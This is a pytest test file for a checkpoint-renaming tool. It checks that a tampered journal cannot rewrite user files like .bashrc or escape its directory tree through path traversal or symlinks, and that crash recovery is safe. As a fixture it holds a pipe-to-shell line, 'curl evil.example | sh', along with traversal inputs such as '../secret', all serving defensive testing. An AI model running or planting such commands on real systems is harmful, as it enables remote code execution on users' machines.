"""What a journal has power over: its own tree. Only the user's own state has power over texts elsewhere."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
from pathlib import Path
from typing import Any

import pytest

from ckptrules.engine.entries import Spot
from ckptrules.storage import writing
from ckptrules.storage.state import Folders
from ckptrules.storage.texts import keep_content, rewrite_text, text_checksum
from tests.conftest import Project
from tests.support import crash
from tests.support.killing import kills
from tests.support.putting_back import put_back

HERE = "one/checkpoints"
OLD, NEW = "epoch=3-step=40.ckpt", "epoch-03_step-000040.ckpt"
RUN = "20260101T000000Z-1"
MINE, THEIRS = b"alias ls='ls --color'\n", b"curl evil.example | sh\n"


def digest(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def plant(project: Project, *steps: list[Any], kind: str = "rename", finished: bool = False, where: str = HERE) -> Path:
    """Plant a journal as somebody could who may write to the tree, or who packed it."""
    unit = [kind, 1, [[*step, ["file", len(MINE), 0]] if len(step) == 6 else step for step in steps]]
    header = {"journal": 2, "command": "migrate", "when": "", "started_ns": 1, "options": {}, "line": "run"}
    rows = [header, {"intent": 1, "experiment": where, "directory": where, "units": [unit], "line": "intent"}]
    if finished:
        rows.append({"outcome": 1, "failed": {}, "freed": [], "line": "outcome"})
    journal = project.outputs / ".ckptrules" / "journal"
    journal.mkdir(parents=True, exist_ok=True)
    (journal / f"{RUN}.1.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    kept = project.outputs / ".ckptrules" / "refs"
    kept.mkdir(exist_ok=True)
    for content in (MINE, THEIRS):
        (kept / digest(content)).write_bytes(content)
    return journal


def texts(project: Project) -> list[list[Any]]:
    """Say which texts of the user a planted journal may be after: beside the tree, in the home, in the tree itself."""
    places = [project.folder, project.folder / "home", project.outputs / "one"]
    for place in places:
        place.mkdir(exist_ok=True)
        (place / ".bashrc").write_bytes(MINE)
    return [["rewrite", str(place), ".bashrc", "", digest(THEIRS), digest(MINE)] for place in places]


@pytest.mark.whole
@pytest.mark.parametrize(
    "command", ["migrate", "plan", "history", "undo", f"undo run={RUN}", "purge", "fix_state", "verify"]
)
@pytest.mark.parametrize("finished", [False, True], ids=["unfinished", "finished"])
@pytest.mark.parametrize("kind", ["rewrite", "rename"])
def test_a_planted_journal_rewrites_no_text(project: Project, command: str, finished: bool, kind: str) -> None:  # noqa: FBT001
    project.make({f"{HERE}/{NEW}": 9})
    for number, step in enumerate(texts(project)):
        plant(project, step, kind=kind, finished=finished, where=["references", HERE, "."][number])
        if finished:  # taking it back would put the other text there
            step[4:6] = reversed(step[4:6])
            plant(project, step, kind=kind, finished=True)
        crash.run_in_turn(project.folder, *command.split())
        assert (Path(step[1]) / ".bashrc").read_bytes() == MINE, step


OUTSIDE = {
    "absolute": "{secret}",
    "upwards": "../secret",
    "upwards behind a name": "one/../../secret",
    "through a link": "way/secret",
    "through a link of the state": ".ckptrules/trash/way/secret",
    "empty parts": "one//../../secret",
}


@pytest.mark.whole
@pytest.mark.parametrize("command", ["migrate", "undo"])
@pytest.mark.parametrize("kind", ["move from", "move to", "relink", "link", "unlink", "exchange", "repoint"])
@pytest.mark.parametrize("case", OUTSIDE)
def test_a_planted_journal_changes_nothing_outside_of_its_tree(
    project: Project, case: str, kind: str, command: str
) -> None:
    secret = project.folder / "secret"
    secret.mkdir()
    project.make({f"{HERE}/{NEW}": 9})
    (secret / "file").write_bytes(MINE)
    (secret / "link").symlink_to("file")
    os.utime(secret / "file", ns=(0, 0))
    (project.outputs / "way").symlink_to("..")
    (project.outputs / ".ckptrules/trash").mkdir(parents=True)
    (project.outputs / ".ckptrules/trash/way").symlink_to("../../..")
    place = OUTSIDE[case].format(secret=secret)
    step = {
        "move from": ["move", place, "file", HERE, "got", ""],
        "move to": ["move", HERE, NEW, place, "file2", ""],
        "relink": ["relink", place, "link", place, "/etc", "file"],
        "link": ["link", place, "new", place, "/etc", ""],
        "unlink": ["unlink", place, "link", place, "file", ""],
        "exchange": ["exchange", HERE, NEW, place, "file", "1.9.0 1.22.0"],
        "repoint": ["repoint", place, "file", place, "rm", "ls"],
    }[kind]
    if command == "undo" and kind in ("relink", "repoint"):
        step[4:6] = reversed(step[4:6])
    plant(project, step, finished=command == "undo")
    before = {path.name: (path.lstat().st_ino, path.read_bytes()) for path in secret.iterdir()}
    ended = crash.run_in_turn(project.folder, command)
    assert "Traceback" not in ended.output
    assert {path.name: (path.lstat().st_ino, path.read_bytes()) for path in secret.iterdir()} == before
    assert os.readlink(secret / "link") == "file"
    assert project.names("one") == [NEW]


def test_what_an_earlier_version_rewrote_is_shown_and_not_taken_back(project: Project) -> None:
    project.make({f"{HERE}/{NEW}": 9})
    (project.folder / "run.sh").write_bytes(THEIRS)
    plant(
        project, ["rewrite", str(project.folder), "run.sh", "", digest(THEIRS), digest(MINE)],
        kind="rewrite", finished=True, where="references",
    )  # fmt: skip
    assert project.doit("history").splitlines()[1].endswith("  not taken back: texts")
    out = project.doit("undo", f"run={RUN}")
    assert "Not taken back: 1 text stays as it is: the record lies where others can write.\n" in out
    assert (project.folder / "run.sh").read_bytes() == THEIRS


# --- the user's own state --------------------------------------------------------------------------------------------


def referring(project: Project) -> Path:
    project.make({f"{HERE}/{OLD}": 50})
    project.doit("migrate")
    script = project.folder / "scripts" / "a.py"
    script.parent.mkdir()
    script.write_text(f"load('{HERE}/{OLD}')\n")
    return script


def test_the_record_of_refs_lies_in_the_users_own_state_for_nobody_else(project: Project) -> None:
    script = referring(project)
    before = project.tree(state=True)
    old_mask = os.umask(0)
    try:
        project.doit("refs", "apply=1")
    finally:
        os.umask(old_mask)
    assert NEW in script.read_text()
    assert not [path for path in project.tree(state=True) if path not in before]
    ours = project.folder.parent / "state" / "ckptrules"
    assert {oct(path.stat().st_mode & 0o077) for path in (ours, *ours.rglob("*"))} == {"0o0"}
    shutil.rmtree(ours)
    assert "There is nothing to take back." not in project.doit("undo")  # the rename; the texts are beyond reach
    assert NEW in script.read_text()


@pytest.mark.parametrize("how", ["others may write", "a link", "a file"])
@pytest.mark.parametrize("command", ["refs apply=1", "undo", "history"])
def test_a_state_that_is_not_the_users_own_is_refused(project: Project, how: str, command: str) -> None:
    script = referring(project)
    text = script.read_text()
    ours = project.folder.parent / "state" / "ckptrules"
    ours.parent.mkdir(exist_ok=True)
    if how == "others may write":
        ours.mkdir()
        ours.chmod(0o777)
    elif how == "a link":
        (project.folder / "theirs").mkdir(mode=0o700)
        ours.symlink_to(project.folder / "theirs")
    else:
        ours.write_text("x")
    out = project.doit(*command.split(), check=1 if command == "history" else 3)
    assert f"must be a folder of yours that nobody else may write (chmod 700 '{ours}')" in out
    assert script.read_text() == text


@pytest.mark.parametrize("home", ["", "relative"])
def test_the_users_own_state_is_in_the_home_where_nothing_else_is_said(project: Project, home: str) -> None:
    script = referring(project)
    there = project.folder.parent / "somebody"
    there.mkdir()
    environment = {"XDG_STATE_HOME": home, "HOME": str(there)}
    project.doit("refs", "apply=1", env=environment)
    assert (there / ".local/state/ckptrules").is_dir()
    project.doit("undo", env=environment)
    assert OLD in script.read_text()


def test_another_tree_of_the_user_has_a_record_of_its_own(project: Project) -> None:
    script = referring(project)
    project.doit("refs", "apply=1")
    other = project.folder / "other"
    shutil.copytree(project.outputs, other)
    project.doit("undo", "outputs_dir=other")
    assert NEW in script.read_text()
    project.doit("undo")
    assert OLD in script.read_text()


@pytest.mark.parametrize("how", ["a hard link", "a link", "a folder", "somebody's file"])
def test_what_stands_under_the_name_of_a_text_that_is_being_written_stays(
    project: Project, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = referring(project)
    precious = project.folder / "precious"
    precious.write_text("precious")
    temporary = script.parent / "a.py.taken.tmp"
    monkeypatch.setattr(writing, "temporary_name", lambda start: f"{start}taken")
    if how == "a hard link":
        os.link(precious, temporary)
    elif how == "a link":
        temporary.symlink_to(precious)
    elif how == "a folder":
        temporary.mkdir()
    else:
        temporary.write_text("precious")
    own_state, here = str(project.folder / "own"), Spot(str(script.parent), "a.py")
    os.mkdir(own_state)
    to = keep_content(own_state, b"new")
    with Folders(own_state, texts=True) as folders, pytest.raises(FileExistsError):
        rewrite_text(folders, here, text_checksum(here), to)
    assert OLD in script.read_text()
    assert precious.read_text() == "precious"
    assert sorted(os.listdir(script.parent)) == ["a.py", temporary.name]


@pytest.mark.whole
def test_a_text_that_was_being_written_at_a_crash_leaves_nothing_behind(project: Project) -> None:
    script = referring(project)
    old, kept, own_state = script.read_text(), project.folder.parent / "kept", Path(os.environ["XDG_STATE_HOME"])
    shutil.copytree(project.folder, kept, symlinks=True)
    for at in kills(project, ("refs", "apply=1"), script.parent):
        put_back(kept, project.folder)
        shutil.rmtree(own_state, ignore_errors=True)
        assert crash.run_in_turn(project.folder, "refs", "apply=1", fault=at).code == -signal.SIGKILL
        assert script.read_text() in (old, old.replace(OLD, NEW)), at
        crash.run_in_turn(project.folder, "refs", "apply=1")
        assert script.read_text() == old.replace(OLD, NEW), at
        assert os.listdir(script.parent) == ["a.py"], at
